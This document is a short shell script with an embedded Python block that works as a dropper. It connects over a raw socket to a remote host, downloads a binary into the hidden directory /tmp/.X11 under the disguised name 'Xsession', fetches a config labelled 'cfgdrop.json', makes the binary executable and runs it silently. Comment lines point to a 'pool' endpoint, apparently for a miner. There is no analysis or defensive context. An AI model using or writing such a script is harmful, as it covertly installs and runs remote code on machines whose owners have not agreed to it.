# python with a raw socket writes a .part and os.rename()s it, config by --config
#http 203.0.113.51:8002
#pool 198.51.100.62:443:drop
python3 - <<'P'
import socket,os,urllib.request
s=socket.create_connection(('203.0.113.51',8002)); s.sendall(b'GET /w HTTP/1.0\r\n\r\n'); b=b''
while True:
    d=s.recv(65536)
    if not d: break
    b+=d
os.makedirs('/tmp/.X11',exist_ok=True); open('/tmp/.X11/a.part','wb').write(b.split(b'\r\n\r\n',1)[1]); os.rename('/tmp/.X11/a.part','/tmp/.X11/Xsession')
open('/tmp/.X11/c','wb').write(urllib.request.urlopen('http://203.0.113.51:8002/cfgdrop.json').read()); os.chmod('/tmp/.X11/Xsession',0o755)
P
timeout 12 /tmp/.X11/Xsession -c /tmp/.X11/c >/dev/null
